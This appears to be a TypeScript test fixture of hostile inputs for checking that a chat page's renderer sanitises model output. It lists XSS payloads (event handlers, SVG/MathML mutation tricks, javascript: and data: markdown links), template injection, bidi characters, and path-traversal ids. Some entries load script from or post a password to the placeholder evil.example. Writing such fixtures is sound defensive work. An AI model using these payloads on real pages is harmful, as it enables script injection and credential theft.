/*
 * Texts that a hostile model, or a person who writes through one, could put into a page. Each one
 * that would run code calls `hurt()`, and each one that would reach another server names
 * `evil.example`. Knows no page.
 */

export interface HostileText {
  readonly name: string;
  readonly text: string;
  /** Whether it runs by itself when it is inserted as HTML into a page without a policy. */
  readonly runs?: boolean;
}

const RUN = 'hurt()';

export const HOSTILE_TEXTS: readonly HostileText[] = [
  { name: 'script', text: `<script>${RUN}</script><script src="https://evil.example/x.js"></script>` },
  { name: 'script in pieces', text: `<scr<script>ipt>${RUN}</scr</script>ipt>` },
  { name: 'event handler', text: `<img src=x onerror="${RUN}">`, runs: true },
  { name: 'event handler without quotes', text: `<img/src/onerror=${RUN}>`, runs: true },
  { name: 'event handler in upper case', text: `<IMG SRC=x ONERROR=${RUN}>`, runs: true },
  { name: 'handlers of other elements', text: `<details open ontoggle=${RUN}>x</details>`, runs: true },
  { name: 'media', text: `<video><source onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio>`, runs: true },
  { name: 'focus', text: `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}></select>` },
  { name: 'svg', text: `<svg onload="${RUN}"><circle r=1 /></svg>` },
  {
    name: 'svg script',
    text: `<svg><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  },
  { name: 'svg animation', text: `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`, runs: true },
  {
    name: 'svg foreign object',
    text: `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
    runs: true,
  },
  { name: 'mathml', text: `<math><mtext><img src=x onerror=${RUN}></mtext></math>`, runs: true },
  {
    name: 'mutation of nested namespaces',
    text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  },
  {
    name: 'mutation by a form',
    text: `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  },
  { name: 'noscript', text: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">` },
  { name: 'comment', text: `<!--><img src=x onerror=${RUN}>-->`, runs: true },
  { name: 'template', text: `<template><img src=x onerror=${RUN}></template><b is="x-y" onclick=${RUN}>x</b>` },
  {
    name: 'frames',
    text: `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe><iframe src="javascript:parent.${RUN}"></iframe>`,
    runs: true,
  },
  {
    name: 'object and embed',
    text: `<object data="data:text/html,<script>parent.${RUN}</script>"></object><embed src="https://evil.example/x.swf">`,
  },
  {
    name: 'base, meta and link',
    text: `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">`,
  },
  {
    name: 'form',
    text: `<form action="https://evil.example/" id=f><input name=password></form><button form=f formaction="javascript:${RUN}">x</button>`,
  },
  {
    name: 'style',
    text: `<style>*{display:none}@import url(https://evil.example/x.css);</style><b style="position:fixed;inset:0;background:url(https://evil.example/b.png)">x</b>`,
  },
  {
    name: 'clobbered names',
    text: `<a id=composer name=body>x</a><img name=getElementById id=message><form id=document></form>`,
  },
  {
    name: 'markdown link with javascript:',
    text: `[a](javascript:${RUN}) [b](  JaVaScRiPt:${RUN}) [c](java\tscript:${RUN}) [d](<javascript:${RUN}>)`,
  },
  {
    name: 'markdown link with entities',
    text: `[a](javascript&#58;${RUN}) [b](&#x6A;avascript:${RUN}) [c](javascript&colon;${RUN}) [d](\u0001javascript:${RUN})`,
  },
  {
    name: 'markdown link with data:',
    text: `[a](data:text/html,<script>${RUN}</script>) [b](data:text/html;base64,PHNjcmlwdD5odXJ0KCk8L3NjcmlwdD4=)`,
  },
  {
    name: 'markdown link with other schemes',
    text: `[a](vbscript:${RUN}) [b](file:///etc/passwd) [c](blob:https://evil.example/x) [d](//evil.example/x) [e](/v1/models)`,
  },
  { name: 'markdown link by reference', text: `[a][r] <javascript:${RUN}>\n\n[r]: javascript:${RUN} "title"` },
  {
    name: 'markdown link that breaks out',
    text: `[a](https://x.example/"onmouseover="${RUN}) [b](https://x.example 'x" onclick="${RUN}') [<img src=x onerror=${RUN}>](https://x.example)`,
  },
  {
    name: 'markdown image',
    text: `![a](https://evil.example/p.png) ![b](x"onerror="${RUN}) ![c](javascript:${RUN}) ![<img src=x onerror=${RUN}>](data:image/svg+xml,<svg onload=${RUN}>)`,
  },
  {
    name: 'markdown code',
    text: `\`<img src=x onerror=${RUN}>\`\n\n\`\`\`"><img src=x onerror=${RUN}>\n</code></pre><img src=x onerror=${RUN}>\n\`\`\``,
  },
  { name: 'markdown table', text: `|a|\n|-|\n|<img src=x onerror=${RUN}>|\n|[x](javascript:${RUN})|` },
  {
    name: 'html entities',
    text: `&lt;img src=x onerror=${RUN}&gt; &#60;script&#62;${RUN}&#60;/script&#62; &amp;lt;svg onload=${RUN}&amp;gt; &#x3c;b&#x3e;`,
  },
  {
    name: 'broken UTF-8 and lone surrogates',
    text: `\ufffd\ufffd<img src=x onerror=${RUN}>\ufffd \u00c0\u00bcscript\u00c0\u00be\u0000\u0008\u001b[31m`,
  },
  {
    name: 'overlong quotes of other scripts',
    text: `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e \u2039img\u203a \u02bcx\u02bc`,
  },
  { name: 'bidi', text: `\u202e)${RUN}(gpj.exe\u202c \u2066\u2067abc\u2069 \u200f\u061c ${'\u202e'.repeat(50)}end` },
  {
    name: 'invisible and combining characters',
    text: `a${'\u0301'.repeat(200)}b \u200b\u200d\ufeff\u00ad${'\u{e0041}'.repeat(20)}`,
  },
  {
    name: 'template injection',
    text: `{{constructor.constructor("${RUN}")()}} \${${RUN}} <%= ${RUN} %> #{${RUN}} [[${RUN}]] {% raw %}{{7*7}} {{{x}}} v-html=${RUN}`,
  },
  { name: 'prototype words', text: `__proto__ constructor toString hasOwnProperty [__proto__]: javascript:${RUN}` },
  { name: 'a very long word', text: 'W'.repeat(5_000) },
  {
    name: 'a very long link and code',
    text: `[${'w'.repeat(500)}](https://x.example/${'p'.repeat(2_000)}) \`${'c'.repeat(1_000)}\`\n\n\`\`\`\n${'l'.repeat(2_000)}\n\`\`\``,
  },
  {
    name: 'deep nesting',
    text: `${'> '.repeat(60)}x\n\n${'- '.repeat(60)}y\n\n${'['.repeat(300)}z${']('.repeat(300)}`,
  },
];

/** Ids of conversations as a hostile link to the page could name them. */
export const HOSTILE_IDS: readonly string[] = [
  `javascript:${RUN}`,
  `<img src=x onerror=${RUN}>`,
  `"><script>${RUN}</script>`,
  '../../v1/models',
  'conv_1/../../models',
  '//evil.example/',
  'https://evil.example/#conv_1',
  'conv_1?x=1&y=2',
  'conv_%2e%2e%2f%2e%2e%2fmodels',
  'conv_\u202e\u0000',
  `conv_${'x'.repeat(5_000)}`,
  '__proto__',
];
